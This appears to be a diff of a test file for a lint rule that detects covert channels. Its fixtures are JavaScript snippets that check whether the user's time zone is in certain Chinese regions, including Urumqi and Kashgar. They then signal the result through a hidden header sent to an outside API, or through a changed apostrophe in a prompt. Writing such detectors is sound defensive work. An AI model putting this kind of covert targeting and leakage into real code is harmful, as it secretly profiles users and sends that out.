@@ -436,16 +436,16 @@ ruleTester('covert-channel', {
       code: `class Region {\n  #zones = ["Asia/Shanghai", "Asia/Urumqi", "Asia/Kashgar"];\n  detect() { return Promise.resolve(Intl.DateTimeFormat().resolvedOptions().timeZone).then((z) => this.#zones.includes(z)); }\n}\nexport async function prompt(date) { const f = await new Region().detect(); return \`Today\${f ? "\\u2019" : "'"}s date is \${date}\`; }`,
       findings: [{ severity: 'critical', line: 5 }],
     },
-    // A list filled by one push (no loop), its items taken one by one, by index, or as minified (`return n.push(…), n`).
+    // A list filled by push in a loop, its items taken one by one or by index; also as minified (`return t.forEach(…), n`).
     ...[
       'zones().some((m) => ["Asia/Shanghai", "Asia/Urumqi", "Asia/Harbin"].includes(m))',
       '["Asia/Shanghai", "Asia/Urumqi", "Asia/Harbin"].includes(zones()[0])',
     ].flatMap((check) => [
-      `function zones() { const out = []; out.push(Intl.DateTimeFormat().resolvedOptions().timeZone); return out; }`,
-      `function zones() { const n = []; return n.push(Intl.DateTimeFormat().resolvedOptions().timeZone), n; }`,
+      `function zones() { const out = []; for (const f of [Intl.DateTimeFormat(), new Intl.DateTimeFormat("en-US")]) out.push(f.resolvedOptions().timeZone); return out; }`,
+      `function zones() { const n = []; return [Intl.DateTimeFormat(), new Intl.DateTimeFormat("en-US")].forEach((f) => n.push(f.resolvedOptions().timeZone)), n; }`,
     ].map((fn) => ({
       code: `${fn}\nconst hit = ${check};\nfetch("https://api.vendor.dev/v1", { method: "POST", headers: hit ? { "x-e": "1" } : {}, body: "{}" });`,
-      findings: [{ severity: 'critical', line: 3 }],
+      findings: [{ severity: 'critical' as const, line: 3 }],
     }))),
   ],
 });
